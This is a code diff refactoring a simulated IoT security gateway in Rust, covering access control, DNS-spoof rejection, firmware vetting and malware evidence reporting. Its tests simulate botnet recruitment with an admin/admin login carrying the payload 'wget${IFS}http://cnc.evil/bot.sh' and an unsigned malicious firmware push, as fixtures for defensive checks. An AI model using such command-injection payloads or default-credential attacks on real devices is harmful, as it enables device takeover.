@@ -31,7 +31,7 @@ use xlf_device::{DeviceConfig, DeviceKit, SensorKind, SimDevice, VulnSet};
 use xlf_lwcrypto::kdf::derive_key;
 use xlf_lwcrypto::searchable::{Token, Tokenizer};
 use xlf_protocols::dns::{DnsRecord, RecordType};
-use xlf_simnet::{Context, Duration, Medium, Network, Node, NodeId, Packet, SimTime};
+use xlf_simnet::{Body, Context, Duration, Medium, Network, Node, NodeId, Packet, SimTime};
 
 /// The vendor hub name every registered device is allowed to resolve
 /// (the destination a DNS-poisoning attacker tries to hijack).
@@ -385,7 +385,7 @@ impl XlfGateway {
             .collect()
     }
 
-    fn handle_upstream(&mut self, ctx: &mut Context<'_>, packet: Packet, device: &Rc<str>) {
+    fn handle_upstream(&mut self, ctx: &mut Context<'_>, mut packet: Packet, device: &Rc<str>) {
         let now = ctx.now();
         if self.config.nac && self.nac.is_quarantined(device) {
             self.dropped += 1;
@@ -399,22 +399,19 @@ impl XlfGateway {
         self.scan_payload(device, &packet.payload, now);
 
         // WAN-bound source routing (the DDoS path) goes through NAC.
-        if let Some(final_dst) = packet.meta("final_dst").and_then(|d| d.parse::<u32>().ok()) {
-            let target = NodeId::from_raw(final_dst);
+        if let Some(target) = packet.take_final_dst() {
             if self.config.nac && self.nac.check_node(device, target, now) != AccessDecision::Allow
             {
                 self.dropped += 1;
                 return;
             }
-            let mut fwd = packet.clone();
-            fwd.remove_meta("final_dst");
             self.forwarded += 1;
-            ctx.send(target, fwd);
+            ctx.send(target, packet);
             return;
         }
 
-        match packet.kind {
-            "telemetry" => {
+        match packet.body {
+            Body::Telemetry { .. } => {
                 if let Some((attribute, value)) = parse_reading(&packet.payload) {
                     if self.config.appverify {
                         self.verifier.witness_event(WitnessedEvent {
@@ -436,33 +433,31 @@ impl XlfGateway {
                     }
                 }
             }
-            "event" => {
-                if let (Some(from), Some(to)) = (packet.meta("from"), packet.meta("to")) {
-                    // The device-layer malware-detection function (§IV-A4):
-                    // a device attesting a compromised state is first-class
-                    // device-layer evidence.
-                    if to == "compromised" {
-                        self.bus.report(crate::evidence::Evidence::new(
-                            now,
-                            crate::evidence::Layer::Device,
-                            device,
-                            crate::evidence::EvidenceKind::DfaViolation,
-                            1.0,
-                            "device reported transition into a compromised state",
-                        ));
-                    }
-                    if self.config.netmonitor {
-                        self.monitor
-                            .observe_transition(device, from, "cmd", to, now);
-                    }
-                    if self.config.appverify {
-                        self.verifier.witness_event(WitnessedEvent {
-                            device: Rc::clone(device),
-                            attribute: Cow::Borrowed("state"),
-                            value: to.to_string(),
-                            at: now,
-                        });
-                    }
+            Body::Event { from, to, .. } => {
+                // The device-layer malware-detection function (§IV-A4):
+                // a device attesting a compromised state is first-class
+                // device-layer evidence.
+                if to == "compromised" {
+                    self.bus.report(crate::evidence::Evidence::new(
+                        now,
+                        crate::evidence::Layer::Device,
+                        device,
+                        crate::evidence::EvidenceKind::DfaViolation,
+                        1.0,
+                        "device reported transition into a compromised state",
+                    ));
+                }
+                if self.config.netmonitor {
+                    self.monitor
+                        .observe_transition(device, from, "cmd", to, now);
+                }
+                if self.config.appverify {
+                    self.verifier.witness_event(WitnessedEvent {
+                        device: Rc::clone(device),
+                        attribute: Cow::Borrowed("state"),
+                        value: to.to_string(),
+                        at: now,
+                    });
                 }
             }
             _ => {}
@@ -478,33 +473,27 @@ impl XlfGateway {
 
     fn handle_downstream(&mut self, ctx: &mut Context<'_>, packet: Packet) {
         let now = ctx.now();
-        let Some((device, &node)) = packet
-            .meta("device")
-            .and_then(|name| self.devices.get_key_value(name))
+        let addressee = packet.body.addressee();
+        let Some((device, &node)) = addressee.and_then(|name| self.devices.get_key_value(&**name))
         else {
             return;
         };
         let device = Rc::clone(device);
-        if self.config.nac && self.nac.is_quarantined(&device) && packet.kind != "ota" {
+        if self.config.nac && self.nac.is_quarantined(&device) && packet.kind() != "ota" {
             self.dropped += 1;
             return;
         }
-        match packet.kind {
-            "cmd" => {
-                let action = packet
-                    .meta("command")
-                    .or_else(|| packet.meta("action"))
-                    .unwrap_or("")
-                    .to_string();
+        match &packet.body {
+            Body::Cmd { command, .. } => {
                 self.scan_payload(&device, &packet.payload, now);
-                if self.config.appverify && !self.verifier.check_command(&device, &action, now) {
+                if self.config.appverify && !self.verifier.check_command(&device, command, now) {
                     self.dropped += 1;
                     return;
                 }
                 self.forwarded += 1;
                 ctx.send(node, packet);
             }
-            "ota" => {
+            Body::Ota { .. } => {
                 if self.config.update_vetting {
                     if self.vetter.vet(&device, &packet.payload, now).is_err() {
                         self.dropped += 1;
@@ -516,12 +505,14 @@ impl XlfGateway {
                 self.forwarded += 1;
                 ctx.send(node, packet);
             }
-            "login" | "probe" => {
+            Body::Login { .. } => {
                 self.scan_payload(&device, &packet.payload, now);
                 self.forwarded += 1;
                 ctx.send(node, packet);
             }
-            "dns-response" => {
+            Body::DnsResponse {
+                name, value, txid, ..
+            } => {
                 // A WAN-side DNS answer claiming to resolve a name for a
                 // device. NAC's hardened resolver adjudicates it (txid +
                 // DNSSEC checks); rejected spoofs are dropped and show up
@@ -532,14 +523,8 @@ impl XlfGateway {
                     ctx.send(node, packet);
                     return;
                 }
-                let name = packet.meta("name").unwrap_or(VENDOR_DNS_NAME).to_string();
-                let value = packet.meta("value").unwrap_or("").to_string();
-                let txid = packet
-                    .meta("txid")
-                    .and_then(|t| t.parse::<u16>().ok())
-                    .unwrap_or(0);
-                let record = DnsRecord::new(&name, RecordType::A, &value, 300);
-                match self.nac.resolve_for(&device, &name, (record, txid), now) {
+                let record = DnsRecord::new(name, RecordType::A, value, 300);
+                match self.nac.resolve_for(&device, name, (record, *txid), now) {
                     Ok(_) => {
                         self.forwarded += 1;
                         ctx.send(node, packet);
@@ -631,9 +616,7 @@ impl Node for XlfGateway {
                     }
                     for size in covers {
                         let mut pkt = Packet::new(ctx.id(), self.cloud, "cover", Vec::new())
-                            .with_protocol(xlf_simnet::Protocol::Tls)
-                            .with_meta("device", &device)
-                            .with_meta("state", "cover");
+                            .with_protocol(xlf_simnet::Protocol::Tls);
                         pkt.pad_to(size);
                         self.forwarded += 1;
                         ctx.send(self.cloud, pkt);
@@ -1285,15 +1268,10 @@ mod tests {
         }
         impl Node for Recruiter {
             fn on_start(&mut self, ctx: &mut Context<'_>) {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
+                let (device, user, pass) = (Some("cam".into()), "admin", "admin");
+                let body = Body::Login { device, user, pass };
+                let payload = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
+                let login = Packet::new(ctx.id(), self.gateway, body, payload);
                 ctx.send(self.gateway, login);
             }
         }
@@ -1383,15 +1361,10 @@ mod tests {
         }
         impl Node for Recruiter {
             fn on_start(&mut self, ctx: &mut Context<'_>) {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
+                let (device, user, pass) = (Some("cam".into()), "admin", "admin");
+                let body = Body::Login { device, user, pass };
+                let payload = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
+                let login = Packet::new(ctx.id(), self.gateway, body, payload);
                 ctx.send(self.gateway, login);
             }
         }
@@ -1581,13 +1554,11 @@ mod tests {
         assert_eq!(hits, vec![true, true]);
         let evil = FirmwareImage::unsigned(Version(9, 9, 9), "mallory", b"BOTNET".to_vec());
         let (gw, cam) = (attacked.gateway, attacked.devices["cam"]);
-        let login = Packet::new(gw, cam, "login", Vec::new())
-            .with_meta("user", "admin")
-            .with_meta("pass", "admin");
+        let (device, user, pass) = (None, "admin", "admin");
+        let login = Packet::new(gw, cam, Body::Login { device, user, pass }, Vec::new());
         attacked.net.inject(gw, cam, login);
-        attacked
-            .net
-            .inject(gw, cam, Packet::new(gw, cam, "ota", evil.to_bytes()));
+        let ota = Packet::new(gw, cam, Body::Ota { device: None }, evil.to_bytes());
+        attacked.net.inject(gw, cam, ota);
         attacked.net.run_until(SimTime::from_secs(60));
         assert!(attacked.device_ref("cam").is_compromised());
         assert!(attacked
